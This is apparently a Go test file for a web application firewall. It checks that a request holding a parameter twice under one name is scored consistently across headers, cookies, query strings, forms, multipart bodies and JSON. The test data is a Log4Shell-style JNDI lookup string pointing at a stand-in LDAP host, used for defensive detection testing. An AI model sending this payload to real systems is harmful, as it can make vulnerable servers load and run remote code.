package waf_test

import (
	"strings"
	"testing"

	"haechi/internal/inspect/waf"
)

// TestRepeatedNames: what a request holds twice under one name is judged twice, each time
// the request is judged.
func TestRepeatedNames(t *testing.T) {
	o := oracle(t, waf.Ruleset{Paranoia: 1})
	const evil = "${jndi:ldap://a.example/x}"
	form := "application/x-www-form-urlencoded"
	for name, make := range map[string]func() *waf.View{
		"headers": func() *waf.View {
			v := browser("GET", "/", "", "")
			v.Headers = append(v.Headers, waf.Field{Name: "User-Agent", Value: evil})
			return v
		},
		"cookies": func() *waf.View {
			v := browser("GET", "/", "", "")
			v.Headers[4].Value = "a=1; b=2; c=3; x=mild; x=" + evil + "; d=4"
			return v
		},
		"cookie headers": func() *waf.View {
			v := browser("GET", "/", "", "")
			v.Headers = append(v.Headers, waf.Field{Name: "Cookie", Value: "session=" + evil})
			return v
		},
		"query": func() *waf.View {
			return browser("GET", "/?a=1&b=2&c=3&x=mild&x="+strings.NewReplacer("$", "%24", "{", "%7B", "}", "%7D", ":", "%3A").Replace(evil)+"&d=4", "", "")
		},
		"query without names": func() *waf.View {
			return browser("GET", "/?a=1&=mild&="+strings.NewReplacer("$", "%24", "{", "%7B", "}", "%7D", ":", "%3A").Replace(evil)+"&d=4", "", "")
		},
		"form": func() *waf.View { return browser("POST", "/", form, "a=1&b=2&c=3&x=mild&x="+evil+"&d=4") },
		"multipart": func() *waf.View {
			return browser("POST", "/", "multipart/form-data; boundary=B", part("a", "1")+part("b", "2")+part("x", "mild")+part("x", evil)+part("c", "3")+"--B--\r\n")
		},
		"json": func() *waf.View {
			return browser("POST", "/", "application/json", `{"a":"1","b":"2","x":"mild","x":"`+evil+`","c":["mild","`+evil+`"]}`)
		},
	} {
		scores := map[int]int{}
		for range 60 {
			scores[judge(t, o, make()).Score]++
		}
		if len(scores) != 1 || scores[0] > 0 {
			t.Errorf("%s: times by score: %v", name, scores)
		}
	}
}

func part(name, value string) string {
	return "--B\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
}
